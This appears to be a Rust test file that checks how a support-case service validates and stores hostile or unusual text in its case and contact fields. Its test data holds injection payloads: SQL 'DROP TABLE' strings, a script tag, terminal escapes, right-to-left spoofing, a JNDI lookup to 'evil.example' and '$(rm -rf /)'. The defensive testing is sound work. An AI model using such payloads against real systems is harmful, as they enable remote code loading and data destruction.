//! Hostile strings in every text field of OpenCase and CorrectContact: refused with
//! INVALID_ARGUMENT INVALID_FIELD naming the field (see `supportgate_types::text`), or,
//! where the rules accept them, stored and returned byte for byte.

use supportgate::proto::{ContactDetails, CorrectContactRequest, OpenCaseRequest};
use supportgate_testkit::backend_tests;
use tonic::Code;

use super::{
    assert_invalid, assert_refused, assert_unchanged, entries_by, read_case, read_contact, stored,
    tenants,
};
use crate::harness::world::contact;
use crate::harness::World;

/// Text that no single-line field accepts, each with what makes it hostile.
pub(super) fn hostile_single_line() -> Vec<(&'static str, String)> {
    let mut values = hostile_multi_line();
    values.push(("newline", "Carol\nSmith".into()));
    values.push(("tab", "Carol\tSmith".into()));
    values
}

/// Text that not even the summary (which allows newlines and tabs) accepts.
fn hostile_multi_line() -> Vec<(&'static str, String)> {
    vec![
        ("NUL", "Carol\0Smith".into()),
        (
            "terminal escape",
            "Carol \u{1b}[2J\u{1b}]0;pwned\u{7}".into(),
        ),
        ("bell", "Carol\u{7}".into()),
        ("delete", "Carol\u{7f}".into()),
        ("C1 control", "Carol\u{85}Smith".into()),
        ("carriage return", "Carol\rSmith".into()),
        ("backspace", "Carol\u{8}\u{8}\u{8}".into()),
        ("right-to-left override", "invoice\u{202E}fdp.exe".into()),
        ("left-to-right embedding", "\u{202A}Carol".into()),
        ("directional isolate", "Carol\u{2066}x\u{2069}".into()),
        ("100 KB", "x".repeat(100 * 1024)),
    ]
}

/// An e-mail address no contact may have.
fn bad_emails() -> Vec<(&'static str, String)> {
    let mut values = vec![
        ("empty", String::new()),
        ("blank", "   ".into()),
        ("no at sign", "carol.acme.example".into()),
        ("no local part", "@acme.example".into()),
        ("no domain", "carol@".into()),
        ("two at signs", "carol@@acme.example".into()),
        ("domain without a dot", "carol@localhost".into()),
        ("domain starting with a dot", "carol@.acme.example".into()),
        ("domain ending with a dot", "carol@acme.example.".into()),
        ("space inside", "carol smith@acme.example".into()),
        ("SQL", "'; DROP TABLE contacts; --".into()),
        ("too long", format!("{}@acme.example", "c".repeat(250))),
    ];
    for (what, v) in hostile_single_line() {
        values.push((what, format!("carol{v}@acme.example")));
    }
    values
}

/// A phone number no contact may have.
fn bad_phones() -> Vec<(&'static str, String)> {
    let mut values = vec![
        ("letters", "call me maybe".into()),
        ("SQL", "+1 555 0100; DROP TABLE contacts; --".into()),
        ("too long", "1".repeat(33)),
    ];
    for (what, v) in hostile_single_line() {
        values.push((what, format!("+1 555{v}0100")));
    }
    values
}

pub(super) fn open_request(summary: &str, contact: ContactDetails) -> OpenCaseRequest {
    OpenCaseRequest {
        summary: summary.into(),
        contact: Some(contact),
    }
}

/// Every OpenCase that must be refused: (what, request, reason, field named in the message).
fn refused_open_cases() -> Vec<(String, OpenCaseRequest, &'static str, &'static str)> {
    let good = || contact("Carol Smith", "carol@acme.example");
    let mut cases = vec![(
        "no contact".to_owned(),
        OpenCaseRequest {
            summary: "VPN drops".into(),
            contact: None,
        },
        "FIELD_REQUIRED",
        "contact",
    )];
    let mut refuse = |what: String, request, field| {
        cases.push((what, request, "INVALID_FIELD", field));
    };
    let mut summaries = hostile_multi_line();
    summaries.push(("empty", String::new()));
    summaries.push(("blank", " \n\t ".into()));
    summaries.push(("4001 characters", "€".repeat(4001)));
    for (what, v) in summaries {
        refuse(
            format!("summary: {what}"),
            open_request(&v, good()),
            "summary",
        );
    }
    let mut names = hostile_single_line();
    names.push(("empty", String::new()));
    names.push(("blank", "   ".into()));
    names.push(("201 characters", "n".repeat(201)));
    for (what, v) in names {
        let c = ContactDetails { name: v, ..good() };
        refuse(
            format!("name: {what}"),
            open_request("VPN drops", c),
            "contact name",
        );
    }
    for (what, v) in bad_emails() {
        let c = ContactDetails { email: v, ..good() };
        refuse(
            format!("email: {what}"),
            open_request("VPN drops", c),
            "contact email",
        );
    }
    for (what, v) in bad_phones() {
        let c = ContactDetails { phone: v, ..good() };
        refuse(
            format!("phone: {what}"),
            open_request("VPN drops", c),
            "contact phone",
        );
    }
    let mut free_text = hostile_single_line();
    free_text.push(("201 characters", "t".repeat(201)));
    for (what, v) in &free_text {
        let c = ContactDetails {
            company: v.clone(),
            ..good()
        };
        refuse(
            format!("company: {what}"),
            open_request("VPN drops", c),
            "company",
        );
        let c = ContactDetails {
            job_title: v.clone(),
            ..good()
        };
        refuse(
            format!("job title: {what}"),
            open_request("VPN drops", c),
            "job title",
        );
    }
    cases
}

/// Every correction that must be refused: (what, request without case id, field).
fn refused_corrections() -> Vec<(String, CorrectContactRequest, &'static str)> {
    let mut cases = Vec::new();
    let mut names = hostile_single_line();
    names.push(("empty", String::new()));
    names.push(("blank", "   ".into()));
    names.push(("201 characters", "n".repeat(201)));
    for (what, v) in names {
        let r = CorrectContactRequest {
            name: Some(v),
            ..Default::default()
        };
        cases.push((format!("name: {what}"), r, "contact name"));
    }
    for (what, v) in bad_emails() {
        let r = CorrectContactRequest {
            email: Some(v),
            ..Default::default()
        };
        cases.push((format!("email: {what}"), r, "contact email"));
    }
    for (what, v) in bad_phones() {
        let r = CorrectContactRequest {
            phone: Some(v),
            ..Default::default()
        };
        cases.push((format!("phone: {what}"), r, "contact phone"));
    }
    let mut free_text = hostile_single_line();
    free_text.push(("201 characters", "t".repeat(201)));
    for (what, v) in free_text {
        let r = CorrectContactRequest {
            company: Some(v.clone()),
            ..Default::default()
        };
        cases.push((format!("company: {what}"), r, "company"));
        let r = CorrectContactRequest {
            job_title: Some(v),
            ..Default::default()
        };
        cases.push((format!("job title: {what}"), r, "job title"));
    }
    // One bad field spoils the whole correction: the good one must not be applied either.
    let r = CorrectContactRequest {
        name: Some("Carol Jones".into()),
        email: Some("carol@@acme.example".into()),
        ..Default::default()
    };
    cases.push(("good name with a bad e-mail".into(), r, "contact email"));
    let r = CorrectContactRequest {
        name: Some("Carol Jones".into()),
        job_title: Some("Head of \u{202E}IT".into()),
        ..Default::default()
    };
    cases.push(("good name with a bad job title".into(), r, "job title"));
    cases
}

backend_tests! {
    async fn hostile_strings_in_open_case_are_refused_precisely_and_change_nothing(backend: Backend) {
        let world = World::build(backend).await;
        let acme = &world.acme;
        let before = stored(&world).await;
        let opens_before = entries_by(&world, &acme.customer, "case.open").await.len();
        let customer = world.server.as_actor(&acme.customer).await;

        for (what, request, reason_code, field) in refused_open_cases() {
            let r = customer.cases().open_case(request).await;
            assert_invalid(&format!("OpenCase, {what}"), r, reason_code, field);
            assert_unchanged(&world, &before, &format!("OpenCase, {what}")).await;
        }
        // A refused case was never opened, not even in the log.
        assert_eq!(
            entries_by(&world, &acme.customer, "case.open").await.len(),
            opens_before
        );
    }

    async fn accepted_unusual_strings_in_open_case_are_stored_and_returned_byte_for_byte(backend: Backend) {
        let world = World::build(backend).await;
        let acme = &world.acme;
        let before = stored(&world).await;
        let customer = world.server.as_actor(&acme.customer).await;

        let accepted = [
            open_request(
                "'; DROP TABLE cases; --",
                ContactDetails {
                    name: "Robert'); DROP TABLE contacts;--".into(),
                    email: "o'brien+tag@acme.example".into(),
                    phone: "+1 (555) 010-0.100".into(),
                    company: "'; DELETE FROM tenants; --".into(),
                    job_title: "\" OR 1=1 --".into(),
                },
            ),
            open_request(
                "line one\n\tline two\n\nline four with a trailing tab\tx",
                ContactDetails {
                    name: "Zoë Ångström-Łukasiewicz".into(),
                    email: "zoë@bücher.example".into(),
                    phone: String::new(),
                    company: String::new(),
                    job_title: String::new(),
                },
            ),
            open_request(
                "日本語 עברית العربية 👩\u{200d}💻 🔥 e\u{301} \u{200b}zero width",
                ContactDetails {
                    name: "李小龙".into(),
                    email: "LI.Xiaolong@Acme.Example".into(),
                    phone: "0049 30 123456".into(),
                    company: "Acme & Sons <b>GmbH</b>".into(),
                    job_title: "<script>alert(1)</script>".into(),
                },
            ),
            open_request(
                "%s%n%x {0} ${jndi:ldap://evil.example/a} C:\\temp\\a.log \\x00 $(rm -rf /)",
                ContactDetails {
                    name: "n".repeat(200),
                    email: format!("{}@acme.example", "e".repeat(241)),
                    phone: "1".repeat(32),
                    company: "c".repeat(200),
                    job_title: "t".repeat(200),
                },
            ),
            open_request(
                &"€".repeat(4000),
                contact("Carol Smith", "carol-4000@acme.example"),
            ),
        ];
        let mut opened = Vec::new();
        for request in &accepted {
            let case = customer
                .cases()
                .open_case(request.clone())
                .await
                .unwrap_or_else(|s| panic!("{request:?} is valid: {s:?}"))
                .into_inner();
            opened.push(case.case_id);
        }
        for (request, case) in accepted.iter().zip(&opened) {
            let view = read_case(&world.server, &acme.customer, case).await;
            let given = request.contact.as_ref().expect("contact");
            assert_eq!(view.summary.as_bytes(), request.summary.as_bytes());
            let got = view.contact.expect("contact");
            let stored = (
                &got.name,
                &got.email,
                &got.phone,
                &got.company,
                &got.job_title,
            );
            assert_eq!(
                stored,
                (
                    &given.name,
                    &given.email,
                    &given.phone,
                    &given.company,
                    &given.job_title
                )
            );
            assert_eq!(read_contact(&world.server, &acme.customer, case).await, got);
        }

        // Nothing else changed, and no table went anywhere.
        let now = stored(&world).await;
        assert_eq!(
            (&now.views, &now.contact, &now.globex_cases),
            (&before.views, &before.contact, &before.globex_cases)
        );
        assert_eq!(
            now.acme_cases.len(),
            before.acme_cases.len() + accepted.len()
        );
        assert!(before.acme_cases.iter().all(|c| now.acme_cases.contains(c)));
        assert_eq!(tenants(&world.server).await.len(), 2);
    }

    async fn surrounding_whitespace_is_trimmed_as_documented_and_inner_text_is_kept(backend: Backend) {
        let world = World::build(backend).await;
        let acme = &world.acme;
        let customer = world.server.as_actor(&acme.customer).await;
        let request = open_request(
            "  \n VPN  drops\n\tevery hour \t\n",
            ContactDetails {
                name: "  Carol   Smith ".into(),
                email: " padded@acme.example ".into(),
                phone: " +1 555 0100 ".into(),
                company: " Acme ".into(),
                job_title: " IT lead ".into(),
            },
        );
        let case = customer
            .cases()
            .open_case(request)
            .await
            .expect("valid once trimmed")
            .into_inner();
        let view = read_case(&world.server, &acme.customer, &case.case_id).await;
        assert_eq!(view.summary, "VPN  drops\n\tevery hour");
        let c = view.contact.expect("contact");
        assert_eq!(
            (
                c.name.as_str(),
                c.email.as_str(),
                c.phone.as_str(),
                c.company.as_str(),
                c.job_title.as_str()
            ),
            (
                "Carol   Smith",
                "padded@acme.example",
                "+1 555 0100",
                "Acme",
                "IT lead"
            )
        );
    }

    async fn hostile_strings_in_correct_contact_are_refused_precisely_and_change_nothing(backend: Backend) {
        let world = World::build(backend).await;
        let acme = &world.acme;
        let before = stored(&world).await;
        let customer = world.server.as_actor(&acme.customer).await;

        for (what, request, field) in refused_corrections() {
            let request = CorrectContactRequest {
                case_id: acme.case.clone(),
                ..request
            };
            let r = customer.contacts().correct_contact(request).await;
            assert_invalid(
                &format!("CorrectContact, {what}"),
                r,
                "INVALID_FIELD",
                field,
            );
            assert_unchanged(&world, &before, &format!("CorrectContact, {what}")).await;
        }

        let r = customer
            .contacts()
            .correct_contact(CorrectContactRequest {
                case_id: acme.case.clone(),
                ..Default::default()
            })
            .await;
        assert_refused(
            "empty correction",
            r,
            Code::InvalidArgument,
            "NOTHING_TO_CORRECT",
        );

        // Another contact of the tenant already has that address (in any letter case).
        for email in ["otto@acme.example", "OTTO@Acme.Example"] {
            let r = customer
                .contacts()
                .correct_contact(CorrectContactRequest {
                    case_id: acme.case.clone(),
                    name: Some("Carol Otto".into()),
                    email: Some(email.into()),
                    ..Default::default()
                })
                .await;
            assert_refused(
                &format!("e-mail {email} of another contact"),
                r,
                Code::AlreadyExists,
                "ALREADY_EXISTS",
            );
        }

        assert_unchanged(&world, &before, "refused corrections").await;
    }

    async fn accepted_unusual_corrections_are_stored_byte_for_byte_and_touch_nothing_else(backend: Backend) {
        let world = World::build(backend).await;
        let acme = &world.acme;
        let before = stored(&world).await;
        let customer = world.server.as_actor(&acme.customer).await;

        let correction = CorrectContactRequest {
            case_id: acme.case.clone(),
            name: Some("Zoë O'Brien'); DROP TABLE contacts; --".into()),
            email: None,
            phone: Some(String::new()),
            company: Some("Ünïcödé 🔥 & <b>Sons</b> \"Ltd\"".into()),
            job_title: Some("%s ${jndi:x} \\n".into()),
        };
        let returned = customer
            .contacts()
            .correct_contact(correction.clone())
            .await
            .expect("a valid correction")
            .into_inner();
        let reread = read_contact(&world.server, &acme.customer, &acme.case).await;
        assert_eq!(returned, reread);
        assert_eq!(
            (
                reread.name.as_bytes(),
                reread.email.as_str(),
                reread.phone.as_str(),
                reread.company.as_bytes(),
                reread.job_title.as_bytes(),
            ),
            (
                correction.name.as_deref().unwrap_or_default().as_bytes(),
                before.contact.email.as_str(),
                "",
                correction.company.as_deref().unwrap_or_default().as_bytes(),
                correction
                    .job_title
                    .as_deref()
                    .unwrap_or_default()
                    .as_bytes(),
            )
        );

        // The engineer sees the same contact; everything else is exactly as before.
        let now = stored(&world).await;
        assert_ne!(now, before, "the snapshot must see the correction");
        assert_eq!(now.views[0].contact.as_ref(), Some(&reread));
        assert_eq!(now.views[0].summary, before.views[0].summary);
        assert_eq!(now.views[1..], before.views[1..]);
        assert_eq!(
            (&now.acme_cases, &now.globex_cases),
            (&before.acme_cases, &before.globex_cases)
        );
    }
}
